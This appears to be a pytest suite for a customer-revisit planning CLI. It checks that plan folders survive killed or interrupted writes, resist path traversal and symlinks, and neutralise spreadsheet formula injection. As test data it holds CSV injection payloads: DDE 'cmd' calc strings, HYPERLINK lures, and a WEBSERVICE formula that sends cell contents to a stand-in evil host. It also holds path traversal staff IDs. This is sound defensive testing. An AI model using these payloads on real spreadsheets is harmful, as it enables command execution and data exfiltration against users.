"""Nothing lost, nothing injected: the plan folder under bad data, faults and re-runs.

Every test runs the kit's own command on real files (the bundled sample's first customers and
its roster) and looks at what is on disk afterwards. Faults are real: a child process that is
really killed (SIGKILL), interrupted (SIGINT) or refused a rename at a chosen point of its
writing; the folder is then compared byte for byte with what it held before.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from revisitkit.cli import main
from revisitkit.config import load_config
from revisitkit.io import read_plan_dir, read_table, write_csv
from revisitkit.store import RiskRegister, Store
from tests.conftest import ROOT

SAMPLE = ROOT / "data" / "sample"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _sample(n: int = 40) -> pd.DataFrame:
    frame = pd.read_csv(
        SAMPLE / "customers.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig"
    )
    return frame.head(n).copy()


def _roster() -> pd.DataFrame:
    return pd.read_csv(
        SAMPLE / "roster.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig"
    )


@pytest.fixture()
def files(tmp_path, monkeypatch):
    """A small customers file and the sample roster in a scratch folder; the store there."""
    monkeypatch.setenv("REVISITKIT_STORE", str(tmp_path / "store.db"))
    _sample().to_csv(tmp_path / "small.csv", index=False, encoding="utf-8-sig")
    _sample(60).to_csv(tmp_path / "bigger.csv", index=False, encoding="utf-8-sig")
    _roster().to_csv(tmp_path / "roster.csv", index=False, encoding="utf-8-sig")
    return tmp_path


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file under *folder* (hidden ones too) with its bytes."""
    return {
        str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()
    }


def plan(files: Path, out: Path, customers: str = "small.csv", *extra: str) -> int:
    return main(
        [
            "plan",
            "--customers",
            str(files / customers),
            "--staff",
            str(files / "roster.csv"),
            "--out",
            str(out),
            *extra,
        ]
    )


# --------------------------------------------------------------------- 1. register round trip
def test_an_unchanged_register_round_trip_changes_nothing(files, capsys):
    config = load_config()
    assert main(["risks", "init"]) == 0
    assert main(["risks", "export", str(files / "rt0.csv")]) == 0
    edited = pd.read_csv(files / "rt0.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    # what the kit wrote is marked inert; what a person types in a spreadsheet is not
    texts = {
        "缓解措施": "=> 先电话确认，再安排上门拜访",
        "风险名称": "=1+1 测试",
        "预警信号": "-30% 订单下滑",
        "应急预案": "@王经理 负责",
    }
    for column, text in texts.items():
        edited.loc[0, column] = text
    edited.to_csv(files / "rt1.csv", index=False, encoding="utf-8-sig")
    assert main(["risks", "import", str(files / "rt1.csv"), "--who", "王芳"]) == 0
    with Store(files / "store.db") as store:
        before = RiskRegister(store, config).list()
    for suffix in ("xlsx", "csv"):
        capsys.readouterr()
        assert main(["risks", "export", str(files / f"rt2.{suffix}")]) == 0
        assert main(["risks", "import", str(files / f"rt2.{suffix}"), "--who", "李雷"]) == 0
        assert "0 added, 0 updated" in capsys.readouterr().out
    with Store(files / "store.db") as store:
        after = RiskRegister(store, config).list()
    pd.testing.assert_frame_equal(before, after)
    first = after.iloc[0]
    assert first["mitigation"] == "=> 先电话确认，再安排上门拜访"
    assert first["title"] == "=1+1 测试"


def test_the_xlsx_round_trip_keeps_line_breaks_and_quotes_and_refuses_what_a_cell_cannot_hold(
    files, capsys
):
    assert main(["risks", "init"]) == 0
    assert main(["risks", "export", str(files / "rt0.csv")]) == 0
    edited = pd.read_csv(files / "rt0.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    edited.loc[0, "缓解措施"] = "line1\r\nline2"
    edited.loc[1, "缓解措施"] = "cr\ronly"
    edited.loc[2, "缓解措施"] = "''=x"
    edited.loc[3, "缓解措施"] = "literal _x000D_ text"
    # quoted: pandas would leave a lone CR unquoted (the kit's own CSVs quote it)
    edited.to_csv(files / "rt1.csv", index=False, encoding="utf-8-sig", quoting=csv.QUOTE_ALL)
    assert main(["risks", "import", str(files / "rt1.csv"), "--who", "王芳"]) == 0
    capsys.readouterr()
    assert main(["risks", "export", str(files / "rt2.xlsx")]) == 0
    assert main(["risks", "import", str(files / "rt2.xlsx"), "--who", "李雷"]) == 0
    assert "0 added, 0 updated" in capsys.readouterr().out
    edited.loc[4, "缓解措施"] = "x" * 40_000
    edited.to_csv(files / "rt3.csv", index=False, encoding="utf-8-sig", quoting=csv.QUOTE_ALL)
    assert main(["risks", "import", str(files / "rt3.csv"), "--who", "王芳"]) == 2
    assert "40,000 characters; at most 32,767 fit" in capsys.readouterr().err


# --------------------------------------------------------------------- 2. formula injection
PAYLOADS = [
    '=HYPERLINK("http://x","click")',
    "=1+1",
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "http://evil.example/",
    "external:C:\\Windows\\System32\\calc.exe",
    "mailto:a@b.cn",
    '=WEBSERVICE("http://evil.example/?"&B5)',
]


def test_write_csv_marks_each_formula_start_and_read_table_strips_it(tmp_path):
    from revisitkit.io import strip_inert_marks

    texts = ["=1+1", "+1", "-x", "@SUM(1)", "\t=1", "\r=1", "'=already", "ok", "a=b", ""]
    frame = pd.DataFrame({"t": texts, "n": [-1.5, 2, -3, 4, 5, 6, 7, 8, 9, 10]})
    write_csv(frame, tmp_path / "x.csv")
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as f:
        raw = list(csv.reader(f))
    assert [r[0] for r in raw[1:]] == [
        "'=1+1",
        "'+1",
        "'-x",
        "'@SUM(1)",
        "'\t=1",
        "'\r=1",
        "''=already",
        "ok",
        "a=b",
        "",
    ]
    assert [r[1] for r in raw[1:4]] == ["-1.5", "2.0", "-3.0"]  # numbers stay numbers
    back = pd.read_csv(tmp_path / "x.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert strip_inert_marks(back)["t"].tolist() == texts


@pytest.fixture()
def injected(files):
    customers = _sample()
    for i, payload in enumerate(PAYLOADS):
        customers.loc[i, "客户名称"] = payload
    customers.loc[0, "客户经理"] = '=HYPERLINK("http://evil","owner")'
    customers.loc[1, "客户编号"] = "=1+2"
    customers.to_csv(files / "inj.csv", index=False, encoding="utf-8-sig")
    roster = _roster()
    roster.loc[0, "姓名"] = '=HYPERLINK("http://evil","staff")'
    roster.loc[1, "姓名"] = "=cmd|' /C calc'!A0"
    roster.to_csv(files / "roster.csv", index=False, encoding="utf-8-sig")
    assert main(["risks", "init"]) == 0
    export = files / "r.csv"
    assert main(["risks", "export", str(export)]) == 0
    register = pd.read_csv(export, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    register.loc[0, "风险名称"] = "=cmd|' /C calc'!A0"
    register.loc[1, "缓解措施"] = "http://evil.example/"
    register.to_csv(export, index=False, encoding="utf-8-sig")
    assert main(["risks", "import", str(export), "--who", "攻击者"]) == 0
    out = files / "out"
    assert plan(files, out, "inj.csv") == 0
    return out


def test_no_cell_of_the_workbooks_is_a_formula_or_a_link(injected, files):
    assert main(["risks", "export", str(files / "r.xlsx")]) == 0
    for book_path in (injected / "plan.xlsx", files / "r.xlsx"):
        book = openpyxl.load_workbook(book_path)
        formulas = [
            (ws.title, c.coordinate, c.value)
            for ws in book
            for row in ws.iter_rows()
            for c in row
            if c.data_type == "f"
        ]
        links = [
            (ws.title, c.coordinate)
            for ws in book
            for row in ws.iter_rows()
            for c in row
            if c.hyperlink is not None
        ]
        assert formulas == [] and links == [], (book_path.name, formulas[:3], links[:3])
    # the text is there as written
    book = openpyxl.load_workbook(injected / "plan.xlsx")
    values = {c.value for ws in book for row in ws.iter_rows() for c in row}
    for payload in PAYLOADS + ['=HYPERLINK("http://evil","staff")', "=cmd|' /C calc'!A0"]:
        assert payload in values, payload


def test_every_csv_the_kit_writes_marks_formula_text_and_reads_it_back(injected, files):
    assert main(["risks", "export", str(files / "r2.csv")]) == 0
    written = [injected / "customers_plan.csv", injected / "schedule.csv", files / "r2.csv"]
    for path in written:
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        for row in rows[1:]:
            for field in row:
                if field.startswith(FORMULA_STARTS):
                    # only numbers may start with a sign
                    float(field)
    plan_back = read_table(injected / "customers_plan.csv").frame
    names = plan_back["name"].tolist()
    for payload in PAYLOADS:
        assert payload in names, payload
    assert "=1+2" in plan_back["customer_id"].tolist()
    assert '=HYPERLINK("http://evil","owner")' in plan_back["owner"].tolist()
    raw = (injected / "customers_plan.csv").read_text(encoding="utf-8-sig")
    assert "'=1+1" in raw and "'@SUM(1)" in raw and "'-2+3" in raw


# --------------------------------------------------------------------- 3. names from data
def test_staff_ids_never_become_paths(files, tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "ESCAPED_absolute.ics").write_text("precious")
    roster = _roster()
    roster.loc[0, "员工编号"] = "../../../../ESCAPED_relative"
    roster.loc[1, "员工编号"] = str(victim / "ESCAPED_absolute")
    roster.loc[2, "员工编号"] = "BJ/003"
    roster.loc[3, "员工编号"] = "CON"
    roster.loc[4, "员工编号"] = "s010"  # differs from S010 only in case
    roster.to_csv(files / "roster.csv", index=False, encoding="utf-8-sig")
    customers = _sample(400)
    customers.to_csv(files / "more.csv", index=False, encoding="utf-8-sig")
    outside_before = {p for p in tmp_path.rglob("*") if "out" not in p.relative_to(tmp_path).parts}
    out = files / "out" / "plan"
    assert plan(files, out, "more.csv") == 0
    assert (victim / "ESCAPED_absolute.ics").read_text() == "precious"
    outside_after = {p for p in tmp_path.rglob("*") if "out" not in p.relative_to(tmp_path).parts}
    assert outside_after == outside_before
    calendars = sorted(p.name for p in (out / "calendars").iterdir())
    assert all(p.parent == out / "calendars" for p in (out / "calendars").rglob("*"))
    lowered = [c.lower() for c in calendars]
    assert len(set(lowered)) == len(lowered)  # unique on Windows too
    for name in calendars:
        assert not set('<>:"/\\|?*') & set(name) and not name.startswith(".")
        assert name.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL"}
    scheduled = set(pd.read_csv(out / "schedule.csv", dtype=str)["staff_id"].dropna())
    assert len(calendars) == len(scheduled)
    if "BJ/003" in scheduled:
        assert "BJ_003.ics" in calendars


# --------------------------------------------------------------------- 4. all or nothing
# A real `revisitkit plan` in a child process, faulted at its at-th rename: "swap" counts the
# renames that put a file into the output folder (a staged file moving into place), "any"
# counts every rename (each file written is renamed into the staging folder first).
FAULT = textwrap.dedent(
    """
    import os, signal, sys
    # a test suite started in the background inherits SIGINT ignored: Ctrl-C as in a terminal
    signal.signal(signal.SIGINT, signal.default_int_handler)
    mode, phase, at, out = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    real, seen = os.replace, [0]
    def replace(src, dst, *a, **k):
        dst_ = os.path.abspath(dst)
        into_folder = dst_.startswith(out + os.sep) and ".revisitkit-staging-" not in dst_
        if phase == "any" or into_folder:
            seen[0] += 1
            if seen[0] == at:
                if mode == "kill":
                    os.kill(os.getpid(), signal.SIGKILL)
                if mode == "int":
                    os.kill(os.getpid(), signal.SIGINT)
                if mode == "fail":
                    raise PermissionError(13, "Permission denied", str(dst))
        return real(src, dst, *a, **k)
    os.replace = replace
    from revisitkit.cli import main
    sys.exit(main(sys.argv[5:]))
    """
)


def _faulty_plan(files: Path, out: Path, mode: str, phase: str, at: int, customers="bigger.csv"):
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [
            sys.executable,
            "-c",
            FAULT,
            mode,
            phase,
            str(at),
            str(out.resolve()),
            "plan",
            "--customers",
            str(files / customers),
            "--staff",
            str(files / "roster.csv"),
            "--out",
            str(out),
        ],
        capture_output=True,
        text=True,
        env=env,
        cwd=files,
    )


@pytest.fixture(scope="module")
def _built(tmp_path_factory):
    """The old plan (40 customers) with a user's own files beside it, and the new plan (60
    customers) in a folder of its own; built once, copied for each test."""
    base = tmp_path_factory.mktemp("plans")
    _sample().to_csv(base / "small.csv", index=False, encoding="utf-8-sig")
    _sample(60).to_csv(base / "bigger.csv", index=False, encoding="utf-8-sig")
    _roster().to_csv(base / "roster.csv", index=False, encoding="utf-8-sig")
    assert plan(base, base / "plan") == 0
    (base / "plan" / "notes.txt").write_text("my notes")
    (base / "plan" / "mine").mkdir()
    (base / "plan" / "mine" / "doc.txt").write_text("my doc")
    assert plan(base, base / "new", "bigger.csv") == 0
    return base


@pytest.fixture()
def old_and_new(files, _built):
    """A copy of the old plan folder in *files*, its snapshot, and the new plan's snapshot."""
    out = files / "plan"
    shutil.copytree(_built / "plan", out)
    return out, snapshot(out), snapshot(_built / "new")


def _visible(snap: dict[str, bytes]) -> dict[str, bytes]:
    # plan.xlsx carries its creation time; compare the other files byte for byte
    return {k: v for k, v in snap.items() if k != "plan.xlsx"}


def _is_mix_free(now: dict[str, bytes], old: dict[str, bytes], new: dict[str, bytes]) -> str:
    mine = {k: v for k, v in now.items() if k in ("notes.txt", "mine/doc.txt")}
    assert mine == {"notes.txt": b"my notes", "mine/doc.txt": b"my doc"}
    rest = {k: v for k, v in now.items() if k not in mine}
    if rest == {k: v for k, v in old.items() if k not in mine}:
        return "old"
    if _visible(rest) == _visible(new) and set(rest) == set(new):
        return "new"
    raise AssertionError("the folder holds a mix of the old and the new plan")


@pytest.mark.parametrize("at", [1, 2, 3, 8, 25, 60])
def test_a_kill_during_the_swap_leaves_the_old_plan_after_recovery(files, old_and_new, at):
    out, old, new = old_and_new
    done = _faulty_plan(files, out, "kill", "swap", at)
    assert done.returncode == -signal.SIGKILL, done.stderr
    # any kit run that reads or writes the folder next puts it back
    read_plan_dir(out)
    assert not list(out.glob(".revisitkit-staging-*"))
    assert _is_mix_free(snapshot(out), old, new) == "old"


@pytest.mark.parametrize("at", [1, 5, 20])
def test_a_kill_while_writing_leaves_the_old_plan_and_the_next_run_cleans_up(
    files, old_and_new, at
):
    out, old, new = old_and_new
    done = _faulty_plan(files, out, "kill", "any", at)
    assert done.returncode == -signal.SIGKILL, done.stderr
    leftover = snapshot(out)
    assert (
        _is_mix_free({k: v for k, v in leftover.items() if "staging" not in k}, old, new) == "old"
    )
    assert plan(files, out, "bigger.csv") == 0
    assert not list(out.glob(".revisitkit-staging-*"))
    assert _is_mix_free(snapshot(out), old, new) == "new"


@pytest.mark.parametrize("at", [2, 9, 40])
def test_ctrl_c_during_the_swap_finishes_it_and_says_so_truthfully(files, old_and_new, at):
    out, old, new = old_and_new
    done = _faulty_plan(files, out, "int", "swap", at)
    assert done.returncode == 130, done.stderr
    assert "nothing half-written" in done.stderr
    assert not list(out.glob(".revisitkit-staging-*"))
    assert _is_mix_free(snapshot(out), old, new) == "new"


@pytest.mark.parametrize("at", [3, 20])
def test_ctrl_c_while_writing_leaves_the_old_plan(files, old_and_new, at):
    out, old, new = old_and_new
    done = _faulty_plan(files, out, "int", "any", at)
    assert done.returncode == 130, done.stderr
    assert not list(out.glob(".revisitkit-staging-*"))
    assert _is_mix_free(snapshot(out), old, new) == "old"


@pytest.mark.parametrize("at", [2, 7, 30])
def test_a_file_that_cannot_be_replaced_leaves_the_old_plan_whole(files, old_and_new, at):
    # Windows refuses to replace a workbook open in Excel: the same refusal, at several points
    out, old, new = old_and_new
    done = _faulty_plan(files, out, "fail", "swap", at)
    assert done.returncode == 2, done.stderr
    assert "could not be replaced" in done.stderr and "nothing was changed" in done.stderr
    assert "Traceback" not in done.stderr
    assert snapshot(out) == old


def test_a_folder_where_a_plan_file_should_go_changes_nothing(files, old_and_new, capsys):
    out, old, _ = old_and_new
    (out / "schedule.csv").unlink()
    (out / "schedule.csv").mkdir()
    (out / "schedule.csv" / "x.txt").write_text("a folder of mine")
    before = snapshot(out)
    assert plan(files, out, "bigger.csv") == 2
    assert "is a folder where the output file should go" in capsys.readouterr().err
    assert snapshot(out) == before


def test_a_failed_first_run_leaves_no_empty_folder(files):
    done = _faulty_plan(files, files / "new-out", "fail", "any", 2)
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert not (files / "new-out").exists()


# --------------------------------------------------------------------- 5. stale outputs
def test_a_plan_folder_holds_exactly_the_current_run(files):
    out = files / "plan"
    customers = _sample(400)
    customers.to_csv(files / "more.csv", index=False, encoding="utf-8-sig")
    assert plan(files, out, "more.csv") == 0
    (out / "notes.txt").write_text("mine")
    first = sorted(p.name for p in (out / "calendars").iterdir())
    schedule = pd.read_csv(out / "schedule.csv", dtype=str)
    gone = sorted(set(schedule["staff_id"].dropna()))[:5]
    roster = _roster()
    roster[~roster["员工编号"].isin(gone)].to_csv(
        files / "roster.csv", index=False, encoding="utf-8-sig"
    )
    assert plan(files, out, "more.csv") == 0
    second = sorted(p.name for p in (out / "calendars").iterdir())
    assert first and not {f"{s}.ics" for s in gone} & set(second)
    now = pd.read_csv(out / "schedule.csv", dtype=str)
    assert sorted(f"{s}.ics" for s in set(now["staff_id"].dropna())) == second
    # no staff, no workbook: the schedule, calendars and plan.xlsx of before go
    assert (
        main(["plan", "--customers", str(files / "small.csv"), "--no-xlsx", "--out", str(out)]) == 0
    )
    left = sorted(str(p.relative_to(out)) for p in out.rglob("*"))
    assert left == [
        ".revisitkit-plan.json",
        "budget.csv",
        "budget_monthly.csv",
        "customers_plan.csv",
        "notes.txt",
        "roster_draft.csv",  # no staff: the team the plan needs, and its figures
        "staffing_needs.csv",
        "touches.csv",
    ]


def test_a_plan_folder_from_before_manifests_loses_its_stale_calendars_only(files):
    out = files / "plan"
    assert plan(files, out) == 0
    # as a plan written by an older kit: no manifest, no roster.csv, no touches.csv
    (out / ".revisitkit-plan.json").unlink()
    (out / "roster.csv").unlink()
    (out / "touches.csv").unlink()
    kit_calendar = (out / "calendars").iterdir().__next__().read_text()
    (out / "calendars" / "GONE.ics").write_text(kit_calendar)  # the kit's, of someone gone
    (out / "calendars" / "mine.ics").write_text("BEGIN:VCALENDAR\nEND:VCALENDAR\n")
    (out / "calendars" / "my-notes.txt").write_text("mine")
    (out / "summary-for-boss.xlsx").write_bytes(b"mine")
    assert plan(files, out) == 0
    assert not (out / "calendars" / "GONE.ics").exists()
    assert (out / "calendars" / "mine.ics").exists()  # a calendar the kit did not write
    assert (out / "calendars" / "my-notes.txt").read_text() == "mine"
    assert (out / "summary-for-boss.xlsx").read_bytes() == b"mine"


def test_a_folder_the_kit_never_wrote_keeps_every_file(files, capsys):
    # the sample's own folder: customers, a roster, calendars of the user's
    out = files / "mine"
    out.mkdir()
    for name in ("small.csv", "roster.csv"):
        shutil.copy(files / name, out / name)
    (out / "calendars").mkdir()
    (out / "calendars" / "S002.ics").write_text("my calendar")
    before = snapshot(out)
    assert main(["plan", "--customers", str(out / "small.csv"), "--out", str(out)]) == 0
    after = snapshot(out)
    assert {k: v for k, v in after.items() if k in before} == before  # nothing lost
    # a run that would write over one of them refuses and changes nothing
    shutil.copy(files / "roster.csv", files / "other-roster.csv")
    before = snapshot(out)
    code = main(
        [
            "plan",
            "--customers",
            str(out / "small.csv"),
            "--staff",
            str(files / "other-roster.csv"),
            "--out",
            str(out),
        ]
    )
    assert code == 2
    err = capsys.readouterr().err
    assert "a file that revisitkit did not write has the name of an output" in err
    assert snapshot(out) == before


def test_links_in_the_plan_folder_never_lead_the_kit_outside_it(files, tmp_path, capsys):
    out = files / "plan"
    assert plan(files, out) == 0
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "S002.ics").write_text("my calendar")
    (elsewhere / "secret.txt").write_text("precious")
    shutil.rmtree(out / "calendars")
    (out / "calendars").symlink_to(elsewhere, target_is_directory=True)
    before = snapshot(elsewhere)
    assert plan(files, out) == 2
    assert "goes through a link to elsewhere" in capsys.readouterr().err
    assert snapshot(elsewhere) == before
    # a manifest naming a file behind a link: the file stays
    (out / "calendars").unlink()
    assert plan(files, out) == 0
    (out / "link").symlink_to(elsewhere, target_is_directory=True)
    manifest = json.loads((out / ".revisitkit-plan.json").read_text(encoding="utf-8"))
    manifest["files"].append("link/secret.txt")
    (out / ".revisitkit-plan.json").write_text(json.dumps(manifest), encoding="utf-8")
    assert plan(files, out) == 0
    assert (elsewhere / "secret.txt").read_text() == "precious"


def test_budget_reads_a_plan_folder_whole_after_a_killed_plan(files, old_and_new, capsys):
    out, old, new = old_and_new
    done = _faulty_plan(files, out, "kill", "swap", 1)
    assert done.returncode == -signal.SIGKILL, done.stderr
    actuals = ROOT / "data" / "sample" / "actuals.csv"
    assert main(["budget", "--plan", str(out), "--actuals", str(actuals)]) == 0
    assert not list(out.glob(".revisitkit-staging-*"))
    assert _is_mix_free(snapshot(out), old, new) == "old"


# --------------------------------------------------------------------- 11. outcomes by anyone
def test_an_outcome_by_someone_on_the_roster_without_a_task_is_accepted(files, capsys):
    out = files / "plan"
    assert plan(files, out) == 0
    scheduled = set(pd.read_csv(out / "schedule.csv", dtype=str)["staff_id"].dropna())
    substitute = sorted(set(_roster()["员工编号"]) - scheduled)[0]
    customer = pd.read_csv(out / "customers_plan.csv", dtype=str)["customer_id"].iloc[0]
    outcomes = files / "outcomes.csv"
    header = "客户编号,回访日期,回访方式,员工编号,是否触达,满意度\n"
    outcomes.write_text(
        header + f"{customer},2026-12-20,电话回访,{substitute},是,5\n", encoding="utf-8"
    )
    assert main(["outcomes", "import", str(outcomes), "--plan", str(out)]) == 0
    outcomes.write_text(header + f"{customer},2026-12-21,电话回访,NOBODY,是,5\n", encoding="utf-8")
    assert main(["outcomes", "import", str(outcomes), "--plan", str(out)]) == 2
    err = capsys.readouterr().err
    assert "NOBODY" in err and "not on the roster" in err
